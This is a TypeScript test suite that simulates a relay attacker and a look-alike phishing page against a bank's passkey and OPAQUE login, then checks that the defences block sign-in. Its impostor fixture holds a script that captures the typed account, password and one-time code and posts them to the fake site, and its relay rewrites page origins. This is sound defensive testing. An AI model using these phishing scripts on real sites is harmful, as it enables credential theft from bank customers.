// Somebody between a customer and the bank, and somebody who only looks like the bank, in Chromium: each at a name of their own,
// with a certificate that the browser trusts. What the customer sees, what the thief gets, and what the house recorded.
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { after, before, suite, test } from 'node:test'
import { createWorld, relayTo, type World } from './support/attacker.ts'
import { type Mailbox, openMailbox } from './support/mailbox.ts'
import { type Bank, type Customer, type Device, PEOPLE_NEED, setUp, signIn, startBank } from './support/people.ts'
import { addPasskey, askOnNewDevice, openAccountPage, referenceOn, waiting } from './support/people-steps.ts'
import { photograph } from './support/photograph.ts'

suite('somebody between', PEOPLE_NEED, () => {
  let world: World
  let mailbox: Mailbox
  let bank: Bank
  let root: string
  let laptop: Device
  let carol: Customer

  before(async () => {
    world = createWorld()
    mailbox = await openMailbox()
    bank = await startBank({ trusts: world.root, door: { people: { mail: mailbox.mail } } })
    root = await readFile(bank.house.ready.trust, 'utf8')
    laptop = await bank.device({ passkeys: true })
    carol = await setUp(bank, laptop, 'carol', { email: 'carol@acme.example' })
    await signIn(bank, laptop, carol)
    await addPasskey(bank, laptop)
  })
  after(async () => {
    await bank?.[Symbol.asyncDispose]()
    await mailbox?.[Symbol.asyncDispose]()
  })

  /** Whatever the house told since, but connections of nobody, which have their address for a name. */
  const since = (first: number) =>
    bank.house.events
      .slice(first)
      .filter(({ event, caller }) => event !== 'meeting' || !/^[\d.]+:\d+$/.test(String(caller)))
  const meetings = () => since(0).filter(({ event }) => event === 'meeting').length
  const sessions = async () => (await bank.countersign('sessions')).match(/carol/g)?.length ?? 0

  test('a relay that passes on what comes: no proof of this page is for the bank, and nothing can be typed', async () => {
    await using relay = await world.open('my-bank.localhost', relayTo(bank, root))
    const { page } = laptop
    const before = meetings()
    await page.goto(`${relay.origin}/login/`)
    assert.match(await page.title(), /Sign in/)
    await page.locator('#alarm', { hasText: 'The proof of this device was not accepted' }).waitFor()
    for (const hidden of ['#picture', '#code-form']) assert.equal(await page.locator(hidden).isVisible(), false)
    // A name may be there to be typed; the password waits for a bank that has answered.
    assert.equal(await page.locator('#password').isEnabled(), false)
    await photograph(page, 'relay')
    const reference = await referenceOn(page, '#alarm')
    const told = await bank.house.event((each) => each['reference'] === reference)
    assert.deepEqual([told['event'], told['code']], ['request.refused', 'ERR_PERSON_PROOF'])
    assert.ok(relay.asked.some(({ path }) => path === '/login/api/begin'))
    assert.equal(meetings(), before)
    assert.equal(await sessions(), 1)
  })

  test('a relay that lies about its name gets through, as a device that nobody knows: the picture is withheld, and a no ends it', async () => {
    // Pages prove for the address that they are told, instead of their own.
    const lies = (body: string, own: string) =>
      body.replaceAll('location.origin', `(location.origin===${JSON.stringify(own)}?${JSON.stringify(bank.origin)}:0)`)
    await using relay = await world.open('my-bank.localhost', relayTo(bank, root, lies))
    const { page } = await bank.device({ passkeys: true })
    const known = laptop.page
    await openAccountPage(bank, laptop)
    const open = await sessions()
    // The passkey is not for this name, whoever asks.
    await page.goto(`${relay.origin}/login/`)
    await page.click('#passkey-first')
    await page.locator('#alarm', { hasText: 'Do not type your password' }).waitFor()
    assert.match(
      await page.locator('#alarm-text').innerText(),
      /this page is at another address, my-bank\.localhost:\d+/,
    )
    assert.equal(await page.locator('#password').isVisible(), false)
    // The customer believes it all the same, and types: the page is the bank's own, and has no picture.
    const number = await askOnNewDevice(relay, { page }, carol)
    await photograph(page, 'relay-new-device')
    const text = await page.locator('main').innerText()
    assert.doesNotMatch(text, new RegExp(carol.phrase))
    // OPAQUE: even so the password has not left the page.
    assert.ok(relay.asked.some(({ path }) => path === '/login/api/finish'))
    for (const { body } of relay.asked) assert.equal(body.includes(carol.password), false)
    assert.equal(await page.locator('#code-form').isVisible(), false)
    assert.equal((await page.context().cookies()).length, 0)

    const asked = await waiting(known, 'A new device wants to sign in')
    assert.equal(asked.number, number)
    assert.match(asked.text, /Say yes only if you are signing in there right now/)
    await mailbox.letter('Somebody has your password on a new device')
    await asked.answer('No')
    await page.locator('#alarm', { hasText: 'A device of yours said no' }).waitFor()
    const { met, text: why } = await bank.why(await referenceOn(page, '#alarm'))
    assert.deepEqual([met.outcome.ok, met.caller.party], [false, 'carol'])
    assert.match(why, /ERR_PERSON_DENIED|said no/)
    assert.equal(await sessions(), open)
  })

  test('an impostor with a page of its own: no picture, the bank sees no login, and what was typed opens nothing', async () => {
    const { body: copy } = await bank.ask('/login/')
    const html = copy
      // Its own script, which reads what is typed, and tries whatever it can to get at the picture.
      .replaceAll(/<script[\s\S]*?<\/script>|<meta http-equiv[^>]*>/g, '')
      .replace(/(<(?:section|form|figure)[^>]*id="(?:picture|password-form|code-form)"[^>]*) hidden/g, '$1')
      .replace('</body>', `<script>${impostor(bank.origin)}</script></body>`)
    // What makes it pretty is fetched from the bank.
    const pretty = relayTo(bank, root)
    await using site = await world.open('bank-localhost.localhost', (request, body, response) =>
      request.url?.startsWith('/login/')
        ? pretty(request, body, response)
        : response.writeHead(200, { 'content-type': 'text/html' }).end(html),
    )
    const { page } = laptop
    const told = bank.house.events.length
    await page.goto(site.origin)
    await page.locator('#tried').waitFor()
    // By the keys of this very device, which are there, for another origin: nothing.
    assert.equal(await page.locator('#tried').innerText(), 'begin: refused, keys: 0, frame: nothing')
    assert.equal(await page.locator('#phrase').innerText(), '')
    const drawn = `document.getElementById('canvas').getContext('2d').getImageData(0, 0, 320, 240).data.some((octet) => octet !== 0)`
    assert.equal(await page.evaluate(drawn), false)
    await photograph(page, 'impostor')
    await page.fill('#account', carol.account)
    await page.fill('#password', carol.password)
    const code = carol.code()
    await page.fill('#code', code)
    await page.click('#password-form button[type=submit]')
    await page.locator('#thanks').waitFor()
    const caught = JSON.parse(site.asked.find(({ path }) => path === '/caught')?.body ?? '{}')
    assert.deepEqual(caught, { account: 'carol', password: carol.password, code })
    assert.deepEqual(since(told), [])

    // With password and fresh code in hand, on a device of their own.
    const thief = await bank.device({ isThiefs: true })
    const begun = thief.page.waitForResponse((response) => response.url().endsWith('/login/api/begin'))
    await askOnNewDevice(bank, thief, caught)
    const { signIn: id } = await (await begun).json()
    assert.equal(await callAs(thief, 'code', { signIn: id, code }), 'ERR_PERSON_STEP')
    assert.equal(await callAs(thief, 'device/keep', { ofDevice: 'a.b.c.d.e' }), 'ERR_PERSON_NOT_SIGNED_IN')
    assert.equal(await callAs(thief, 'wait', { signIn: id }), 'confirm')
    await thief.page.goto(`${bank.origin}/accounts/current`)
    await thief.page.waitForURL(/\/login\/\?to=/)
    assert.doesNotMatch(await thief.page.content(), /€/)
    assert.equal(await sessions(), 1)
    await openAccountPage(bank, laptop)
    await (await waiting(laptop.page, 'A new device wants to sign in')).answer('No')
  })
})

/** Asks with the keys of the thief's own device, by the modules of the page: answers the code of the refusal, or what is next. */
async function callAs({ page }: Device, name: string, body: object): Promise<unknown> {
  return page.evaluate(`(async () => {
    const script = document.querySelector('script[src*="/login/"]').src
    const { callFrom } = await import(new URL('call.js', script))
    const { currentDevice } = await import(new URL('device.js', script))
    return callFrom(await currentDevice(), ${JSON.stringify(name)}, ${JSON.stringify(body)})
      .then(({ next }) => next, ({ problem }) => problem.code)
  })()`)
}

/** What the impostor's page runs. */
function impostor(origin: string): string {
  return `
const say = (id, text) => document.body.append(Object.assign(document.createElement('p'), { id, textContent: text }))
const began = fetch('${origin}/login/api/begin', { method: 'POST', credentials: 'include', body: '{}', headers: { 'content-type': 'application/json' } })
const keys = new Promise((resolve) => {
  const opening = indexedDB.open('countersign')
  opening.onsuccess = () => resolve(opening.result.objectStoreNames.length)
})
const framed = new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), { src: '${origin}/login/' })
  frame.onload = () => { try { resolve(frame.contentDocument === null ? 'nothing' : 'a page') } catch { resolve('nothing') } }
  document.body.append(frame)
})
Promise.all([began.then(() => 'answered', () => 'refused'), keys, framed]).then(([a, b, c]) => say('tried', 'begin: ' + a + ', keys: ' + b + ', frame: ' + c))
for (const form of document.forms) form.addEventListener('submit', async (event) => {
  event.preventDefault()
  const [account, password, code] = ['account', 'password', 'code'].map((id) => document.getElementById(id).value)
  await fetch('/caught', { method: 'POST', body: JSON.stringify({ account, password, code }) })
  say('thanks', 'Thank you')
})`
}
